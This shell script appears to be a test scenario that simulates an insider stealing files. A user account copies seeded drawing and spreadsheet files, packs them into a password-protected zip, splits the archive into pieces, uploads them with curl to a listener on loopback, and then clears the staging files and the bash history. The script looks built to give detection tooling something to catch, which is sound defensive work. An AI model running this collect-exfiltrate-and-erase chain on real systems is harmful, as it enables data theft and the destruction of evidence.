# ana gathers, packs, cuts, sends (to a listener on loopback) and forgets.
prepare() {
    mkdir -p /srv/drawings /home/ana/x
    for n in $(seq 30); do echo "part $n" >/srv/drawings/d$n.dwg; echo "$n,1" >/srv/drawings/t$n.xlsx; done
    echo 'ls' >/home/ana/.bash_history
    chown -R 1000:1000 /home/ana
    perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Listen => 9, LocalAddr => "127.0.0.1:8443") or die; open my $f, ">", "/run/ready"; close $f;
        while (my $c = $s->accept) { sysread $c, my $q, 65536; print $c "HTTP/1.0 201 Created\r\nContent-Length: 0\r\n\r\n"; close $c }' 9>&- &
    ready
}
gather() { as_ana python3 -c 'import pathlib, shutil
for p in pathlib.Path("/srv").rglob("*"):
    if p.suffix in (".dwg", ".xlsx"): shutil.copy(p, "/home/ana/x")'; }
pack() { as_ana bash -c 'cd /home/ana && zip -q -r -P summer x.zip x'; }
cut_it() { as_ana bash -c 'cd /home/ana && split -b 1k x.zip part-'; }
send_it() { as_ana bash -c 'cd /home/ana && for f in part-a[a-d]; do curl -s -m 3 -T $f http://127.0.0.1:8443/dav/$f; done'; }
forget() { as_ana bash -c 'cd /home/ana && rm -rf x x.zip part-*; : >.bash_history; unset HISTFILE'; }
